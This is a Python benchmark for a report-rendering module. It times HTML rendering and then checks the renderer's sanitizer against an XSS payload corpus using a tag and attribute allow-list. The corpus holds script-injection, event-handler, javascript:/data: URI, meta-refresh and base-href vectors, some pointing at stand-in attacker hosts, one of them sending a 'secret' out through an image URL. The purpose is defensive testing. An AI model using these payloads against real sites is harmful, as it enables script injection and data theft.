"""Report rendering (ui/render.py): time per report, and an allow-list check of its HTML over hostile payloads.

    .venv/bin/python benchmarks/perf/render_bench.py [--repeat 20] [--render PATH]

1. Times what the Report page renders (report_html + notes_html) for every saved run in benchmark_runs/ (median of
   --repeat renders each, then p50/p95/max over the runs), the Markdown body alone (markdown_html), and one large
   synthetic report (~250 KB of Markdown with headings, lists, tables, citations, links and bare addresses).
2. Times 48 KB of unclosed openers ("[", "![", "**a ", ...), the worst case of each parser, and reports the slowest.
3. Puts each payload of an XSS corpus (the hostile strings of the tests, and classic vectors) in every place untrusted
   text goes: heading, paragraph, list, quote, table cell, code, link text and address, image, title, quote, gap,
   conflict and problem. Counts the renders whose HTML has a tag or attribute outside the allow-list, a link that is
   not a fetched source, or a changed <style> (must be 0).
--render PATH measures another copy of the module, e.g. an earlier one: git show REV:ui/render.py > /tmp/old.py
"""
from __future__ import annotations

import argparse
import importlib.util
import random
import statistics
import sys
import time
from html.parser import HTMLParser
from pathlib import Path
from types import ModuleType

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT))

from pipeline.core.schema import Calculation, Conflict, Finding, Problem, Report, RunResult, Source  # noqa: E402
from pipeline.store.files import read_run_file  # noqa: E402

SOURCE_URL = "https://docs.example.com/pricing?plan=cloud"
ATTRS: dict[str, set[str]] = {  # the allow-list: every tag the renderer may write, with the attributes it may carry
    **dict.fromkeys(["p", "h2", "h3", "h4", "h5", "h6", "thead", "tbody", "tr", "th", "td", "hr", "pre", "code",
                     "strong", "em", "br", "style"], set()),
    "div": {"class"}, "ul": {"class"}, "ol": {"class"}, "li": {"id"}, "blockquote": {"class"}, "table": {"class"},
    "span": {"class", "tabindex", "role", "data-cite"}, "a": {"class", "href", "target", "rel", "referrerpolicy"},
}
PAYLOADS = [
    # the hostile strings of tests/test_render.py, tests/test_browser.py, tests/test_write.py and tests/test_app.py
    '<script>window.__pwned=1</script> <img src=x onerror="window.__pwned=2"> ![x](http://attacker.example/?q=secret) '
    '[click](javascript:alert(1)) <iframe src="http://attacker.example/frame"></iframe> <http://attacker.example/auto> '
    'http://attacker.example/bare [F1](http://attacker.example/cite)',
    "Fares ![x](http://evil.example/) <script>alert(1)</script> `code` [click](http://evil.example/)",
    "Bus ridership rose by 8 percent <img src=x onerror=alert(1)> [see](http://evil.example/)",
    "![x](http://a.example/?q=1) [c](javascript:x) <b> :red[x] $x$ www.a.example me@a.example\n#h",
    "https://a.example/p[x](javascript:alert(1))<b> c",
    # classic vectors
    "<svg onload=alert(1)>", "<img src=x onerror=alert(1)//", '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>", '<a href="javascript:alert(1)">x</a>', "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1)  )", "[x](java&#x09;script:alert(1))", "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))", '![x"onerror="alert(1)](http://attacker.example/x.png)',
    '[x](http://attacker.example/" onmouseover="alert(1))', "<javascript:alert(1)>", "<http://attacker.example/>",
    'http://attacker.example/"onmouseover=alert(1)', "[x]\n\n[x]: javascript:alert(1)",
    "[F1]\n\n[F1]: http://attacker.example/", "[F1](http://attacker.example/)", "[x][F1]\n\n[F1]: http://a.example/",
    f'[a]({SOURCE_URL}"onclick="alert(1))', f'[a]({SOURCE_URL}#"><script>alert(1)</script>)',
    f'{SOURCE_URL}"><script>alert(1)</script>', f"[<img src=x onerror=alert(1)>]({SOURCE_URL})",
    f"[![x](http://attacker.example/i.png)]({SOURCE_URL})", f"[[F1]]({SOURCE_URL})", f"[a [F1] b]({SOURCE_URL})",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &#x202e;",
    "\\<script>alert(1)\\</script>",
    "<style>body{display:none}</style>", "</style><script>alert(1)</script>", "<!-- x --><![CDATA[<script>]]>",
    "```html\n<script>alert(1)</script>\n```", '~~~ " onerror=alert(1) x\ncode\n~~~', "    <script>indented</script>",
    "| <b>a</b> | b |\n|:--|--:|\n| <i>c</i> | [d](javascript:x) |", "\u202egnp.exe \u2066x\u2069",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', "<form><button formaction=javascript:alert(1)>x",
    "<details open ontoggle=alert(1)>", "<object data=x></object><embed src=x>", "<base href=//attacker.example/>",
    "<meta http-equiv=refresh content=0;url=//attacker.example>", '<div style="background:url(//attacker.example)">',
    "*<b>*a*</b>* **<i>** `<code>` _<u>_", "1. <script>\n2. x\n\n- <iframe>\n  - <frame>", "> <iframe>\n>> <b>",
    "Setext <b>\n===", "line  \nbreak<br>\\\nx", "[F1, F2]<b>[G1][C1][F99]", "<x-a onclick=alert(1)>",
]


def load(path: Path | None) -> ModuleType:
    """ui.render, or the copy of it at `path`."""
    if path is None:
        import ui.render
        return ui.render
    spec = importlib.util.spec_from_file_location("render_under_test", path)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module  # dataclasses look their module up by name
    spec.loader.exec_module(module)
    return module


def saved_runs() -> list[RunResult]:
    files = sorted(p for p in (ROOT / "benchmark_runs").rglob("*.json")
                   if not p.name.endswith(".timeline.json") and p.name != "summary.json")
    return [read_run_file(p) for p in files]


def _source(i: int, url: str, title: str | None = None) -> Source:
    return Source(id=f"S{i}", url=url, final_url=url, title=title or f"Page {i}", published="2025-01-15",
                  fetched_at="2025-02-01T10:00:00+00:00", sha256="0" * 64, chars=500)


def large_run(rng: random.Random, size: int = 250_000) -> RunResult:
    """A synthetic report of about `size` characters citing 200 findings of 40 sources."""
    words = ["price", "plan", "cluster", "storage", "vector", "index", "query", "latency", "cloud", "tier", "month",
             "dollars", "replica", "region"]
    sources = [_source(i, f"https://site{i}.example/page/{i}?a=1") for i in range(1, 41)]
    findings = [Finding(id=f"F{i}", source=f"S{i % 40 + 1}", claim="c", quote=" ".join(rng.choices(words, k=20)),
                        start=0, end=10, support="supported", confidence="high") for i in range(1, 201)]

    def sentence() -> str:
        text = " ".join(rng.choices(words, k=rng.randint(8, 20)))
        extra = rng.choice(["", " **bold**", " *em*", " `code_x`", f" [site]({sources[rng.randrange(40)].url})",
                            f" see {sources[rng.randrange(40)].url}", " [elsewhere](https://other.example/x)"])
        return f"{text.capitalize()}{extra} [F{rng.randint(1, 200)}]."

    parts, total, n = ["# A large synthetic report"], 0, 0
    while total < size:
        n += 1
        block = [f"## Section {n}", " ".join(sentence() for _ in range(6)),
                 "\n".join(f"- {sentence()}" for _ in range(4)), f"> {sentence()}",
                 "| a | b |\n|---|---|\n" + "\n".join(f"| {sentence()} | {rng.randint(1, 99)} |" for _ in range(3))]
        text = "\n\n".join(block)
        parts.append(text)
        total += len(text)
    return RunResult(run_id="large", question="q?", mode="fixed", status="complete", sources=sources,
                     findings=findings, calculations=[Calculation(id="C1", expression="1+1", result="2")],
                     report=Report(markdown="\n\n".join(parts), gaps=["a gap"],
                                   conflicts=[Conflict(description="d", findings=["F1", "F2"])]))


def page_render(module: ModuleType, rr: RunResult) -> str:
    """What the Report page renders of a run."""
    return str(module.report_html(rr, title=False)) + str(module.notes_html(rr))


def timed(module: ModuleType, rr: RunResult, repeat: int, body_only: bool = False) -> float:
    ev = module.Evidence.of(rr)
    times = []
    for _ in range(repeat):
        started = time.perf_counter()
        if body_only:
            module.markdown_html(rr.report.markdown, ev)
        else:
            page_render(module, rr)
        times.append(time.perf_counter() - started)
    return statistics.median(times)


def adversarial(module: ModuleType) -> tuple[float, str]:
    """The slowest render of 48 KB of one unclosed opener repeated, and that opener."""
    worst = (0.0, "")
    for unit in ["[", "![", "[a", "[F1,", "**a ", "_a ", "*", "`", "a **b\n", "<", "&#", "  - x\n", "| x |\n"]:
        md = unit * (48_000 // len(unit)) + "b <i>"
        started = time.perf_counter()
        module.markdown_html(md, module.Evidence())
        worst = max(worst, (time.perf_counter() - started, unit))
    return worst


def percentile(values: list[float], q: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, round(q * (len(ordered) - 1)))]


class Check(HTMLParser):
    """The allow-list violations of one HTML fragment."""

    def __init__(self, style: str, links: tuple[str, ...]):
        super().__init__(convert_charrefs=True)
        self.style, self.links, self.in_style = style, links, False
        self.bad: list[str] = []
        self.styles: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.in_style = tag == "style"
        if tag not in ATTRS:
            self.bad.append(f"<{tag}>")
            return
        self.bad += [f"<{tag} {k}>" for k, _ in attrs if k not in ATTRS[tag]]
        values = dict(attrs)
        if tag == "a" and not (values.get("href") or "").startswith(self.links):
            self.bad.append(f"href={values.get('href')}")
        if tag == "a" and set((values.get("rel") or "").split()) != {"noopener", "noreferrer", "nofollow"}:
            self.bad.append(f"rel={values.get('rel')}")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        self.in_style = False

    def handle_endtag(self, tag: str) -> None:
        self.in_style = False

    def handle_data(self, data: str) -> None:
        if self.in_style:
            self.styles.append(data)

    def violations(self, html: str) -> list[str]:
        self.feed(html)
        self.close()
        return self.bad + [f"<style>{s[:40]}" for s in self.styles if s != self.style]


def hostile_runs(payload: str) -> list[RunResult]:
    """The payload in every place untrusted text reaches the renderer."""
    one_line = " ".join(payload.split())
    body = (f"# {one_line}\n\n{payload}\n\nIntro {one_line} [F1] and [F2].\n\n- {one_line}\n  - {one_line}\n"
            f"1. {one_line}\n\n> {one_line}\n\n| h | {one_line.replace('|', '/')} |\n|---|---|\n"
            f"| {one_line.replace('|', '/')} | x |\n\n`{one_line}` [{one_line}]({SOURCE_URL}) [x]({one_line}) "
            f"![{one_line}]({one_line}) {SOURCE_URL}\n\n## Sources\n\n- [F1] {payload}\n")
    sources = [_source(1, SOURCE_URL, title=f"T {payload}"), _source(2, "http://127.0.0.1:9/x", title=payload)]
    sources[1] = sources[1].model_copy(update={"final_url": "javascript:alert(1)"})
    findings = [Finding(id="F1", source="S1", claim="c", quote=f"Q {payload}", start=0, end=5),
                Finding(id="F2", source="S2", claim="c", quote=payload, start=0, end=5)]
    rr = RunResult(run_id="h", question=payload, mode="fixed", status="partial", sources=sources, findings=findings,
                   calculations=[Calculation(id="C1", expression=payload, result=payload)],
                   report=Report(markdown=body, gaps=[payload], conflicts=[Conflict(description=payload,
                                                                                    findings=["F1", "F9"])]),
                   problems=[Problem(kind=payload, message=payload, sentence=payload)])
    return [rr, rr.model_copy(update={"report": Report(markdown=payload)})]


def allow_list_violations(module: ModuleType) -> tuple[int, int, list[str]]:
    """(renders with a violation, renders, the first few violations) over the payload corpus."""
    bad, total, examples = 0, 0, []
    for payload in PAYLOADS:
        for rr in hostile_runs(payload):
            ev = module.Evidence.of(rr)
            for html in (module.report_html(rr), module.report_html(rr, title=False), module.notes_html(rr),
                         module.markdown_html(rr.report.markdown, ev, cards=False), module.sources_html(rr)):
                total += 1
                found = Check(module.STYLE, (SOURCE_URL,)).violations(html)
                if found:
                    bad += 1
                    examples += [f"{payload[:30]!r}: {v}" for v in found[:2]]
    return bad, total, examples[:10]


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--repeat", type=int, default=20, help="renders of each report; its median counts")
    ap.add_argument("--render", type=Path, help="another copy of ui/render.py to measure")
    args = ap.parse_args()
    started = time.perf_counter()
    module = load(args.render)
    print(f"module {args.render or 'ui/render.py'}: imported in {(time.perf_counter() - started) * 1000:.0f} ms")
    runs = saved_runs()
    first = time.perf_counter()
    page_render(module, runs[0])
    print(f"first render after import: {(time.perf_counter() - first) * 1000:.2f} ms")
    per_run = [timed(module, rr, args.repeat) * 1000 for rr in runs]
    chars = sorted(len(rr.report.markdown) for rr in runs)
    print(f"{len(runs)} saved reports ({chars[0]}-{chars[-1]} chars of Markdown): p50 {percentile(per_run, .5):.2f} "
          f"ms, p95 {percentile(per_run, .95):.2f} ms, max {max(per_run):.2f} ms per report")
    body = [timed(module, rr, args.repeat, body_only=True) * 1000 for rr in runs]
    print(f"  the Markdown body alone (markdown_html): p50 {percentile(body, .5):.2f} ms, "
          f"p95 {percentile(body, .95):.2f} ms, max {max(body):.2f} ms")
    large = large_run(random.Random(7))
    times = [timed(module, large, 1) * 1000 for _ in range(max(3, args.repeat // 4))]
    print(f"large synthetic report ({len(large.report.markdown) / 1000:.0f} KB): p50 {percentile(times, .5):.1f} ms, "
          f"p95 {percentile(times, .95):.1f} ms")
    seconds, unit = adversarial(module)
    print(f"48 KB of unclosed openers: slowest {seconds * 1000:.0f} ms, for {unit!r} repeated")
    bad, total, examples = allow_list_violations(module)
    print(f"XSS corpus: {len(PAYLOADS)} payloads, {total} renders, {bad} with a tag, attribute, link or style outside "
          "the allow-list")
    for example in examples:
        print("  ", example)


if __name__ == "__main__":
    main()
